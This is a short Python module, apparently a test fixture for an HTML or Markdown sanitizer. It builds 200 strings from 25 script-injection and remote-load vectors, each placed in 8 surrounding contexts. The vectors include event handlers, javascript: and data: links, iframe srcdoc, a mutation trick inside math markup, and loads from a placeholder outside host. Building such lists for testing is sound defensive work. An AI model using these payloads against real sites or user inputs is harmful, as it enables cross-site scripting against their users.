"""Texts that would run a script or fetch something, were they read as markup: 25 ways in, each in 8 surroundings."""

OUTSIDE = "https://outside.example"
WAYS = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<body onload=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    f"<iframe src='{OUTSIDE}/frame'></iframe>",
    f"<img src='{OUTSIDE}/picture.png'>",
    f"<script src='{OUTSIDE}/script.js'></script>",
    f"<link rel=stylesheet href='{OUTSIDE}/style.css'>",
    f"<style>@import url({OUTSIDE}/style.css); body {{ background: url({OUTSIDE}/ground.png) }}</style>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/away'>",
    f"<base href='{OUTSIDE}/'>",
    f"<form action='{OUTSIDE}/form'><button autofocus onfocus=ran()>x</button></form>",
    "<details open ontoggle=ran()>x</details>",
    "<input autofocus onfocus=ran()>",
    "<video><source onerror=ran()></video>",
    f"<object data='{OUTSIDE}/object'></object>",
    "<a href='javascript:ran()'>here</a>",
    "[here](javascript:ran())",
    "[here](JaVaScRiPt&colon;ran())",
    "[here](data:text/html,<script>ran()</script>)",
    f"![picture]({OUTSIDE}/picture.png)",
    f'![x]({OUTSIDE}/"onerror="ran())',
    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=ran()>--></math>",
)
AROUND = (
    "{}",
    "# {}",
    "- one\n- **{}**",
    "> {}",
    "| a | b |\n|---|---|\n| {} | x |",
    "```html\n{}\n```\n{}",
    "\"'>-->`</textarea></title>]]>{}",
    '[{}](https://example.org "{}")',
)
PAYLOADS = tuple(frame.replace("{}", way) for frame in AROUND for way in WAYS)
assert len(set(PAYLOADS)) == 200
